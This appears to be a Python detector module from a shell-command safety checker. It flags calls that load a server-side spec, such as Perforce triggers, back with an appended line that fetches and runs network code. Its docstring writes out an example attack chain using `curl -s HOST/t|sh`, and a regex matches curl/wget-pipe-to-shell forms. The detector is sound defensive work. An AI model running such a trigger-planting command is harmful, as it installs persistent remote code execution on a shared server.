"""Round 40 (lead fa, issue 25): a server-side SPEC (hooks, triggers, a resource) loaded back holding a fetch-and-run.

``p4 triggers -o > /tmp/t && echo '… "curl -s HOST/t|sh"' >> /tmp/t && p4 triggers -i < /tmp/t``: a table of hooks
read out, a line appended, and the table loaded back with ``-i`` (its input on stdin). Generic shape: a command that
LOADS a spec — ``-i`` with stdin from a file or a pipe, or an ``apply``/``import``/``load``/``replace``/``create``
verb given ``-f FILE``/``--file FILE``/``FILE`` — whose input an earlier command of the same call wrote or piped with
text holding a fetch-and-run (``curl …|sh``, ``wget -O- …|bash``, ``sh -c "$(curl …)"``, ``… | python``). The
server runs that line on its own events, off this machine; Tier 1 never sees what it fetches.

Open: ``p4 triggers -o`` alone, a spec loaded back with ordinary edits (``sed -i s/old/new/``), a fetch-and-run
written to a file nothing loads as a spec (judged by its own rules when run).
"""
from __future__ import annotations

import re

from evaluation.verdicts.tier1.scene_model import Scene, View

FETCH_RUN = re.compile(r"(?:\bcurl|\bwget|\bfetch|\biwr)\b[^|\n]{0,300}\|\s{0,3}(?:sudo\s{1,3})?"
                       r"(?:(?:ba|z|da|k)?sh|python3?|perl|ruby|node|iex)\b|"
                       r"\b(?:ba)?sh\s{1,3}-c\s{1,3}[\"']?\$\(\s{0,3}(?:curl|wget)\b")
_LOAD_VERBS = frozenset({"apply", "import", "load", "replace", "create", "restore", "set"})
_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "sed", "sort", "uniq", "cut", "tr", "awk", "gawk", "less", "ls",
                      "diff", "git", "jq", "yq", "xargs", "cat", "head", "tail", "wc", "tee", "ssh", "scp", "rsync"})
_FILE_OPTIONS = frozenset({"-f", "--file", "--filename", "-i", "--input"})


def _inputs(view: View) -> tuple[list[str], bool]:
    """The files ``view`` loads as a spec, and whether it loads one from a pipe."""
    command = view.command
    argv = command.argv
    if len(argv) < 2:
        return [], False
    stdin = [r.target for r in command.redirects if r.op.lstrip("0123456789") == "<" and r.heredoc_body is None
             and r.target]
    if "-i" in argv[2:8] and not argv[1].startswith("-") and command.program not in _FILTERS:
        return stdin, command.pipeline_pos > 0  # `p4 triggers -i`: a subcommand's spec on stdin
    if not any(w in _LOAD_VERBS for w in argv[1:4]):
        return [], False
    files = [argv[i + 1] for i, w in enumerate(argv[:40]) if w in _FILE_OPTIONS and i + 1 < len(argv)]
    return files + stdin, False


def spec_fetch_run(scene: Scene, view: View) -> list[str]:
    """Why ``view`` loads a spec whose input holds a fetch-and-run written or piped by this call, else []."""
    files, piped = _inputs(view)
    if not files and not piped:
        return []
    targets = {p for raw in files for p in scene.canon(view, raw) or ()}
    for earlier in scene.views[-25:]:
        if earlier is view:
            break
        feeds = piped and earlier.command.pipeline_id == view.command.pipeline_id
        writes = any(p in targets for t in earlier.writes for p in scene.canon(earlier, t.raw) or ())
        if (feeds or writes) and FETCH_RUN.search(earlier.text[:8000]):
            return [f"{view.command.program} loads a spec holding a fetch-and-run that this call wrote into it "
                    f"({earlier.text[:80]!r}): the server runs code from the network on its own events"]
    return []
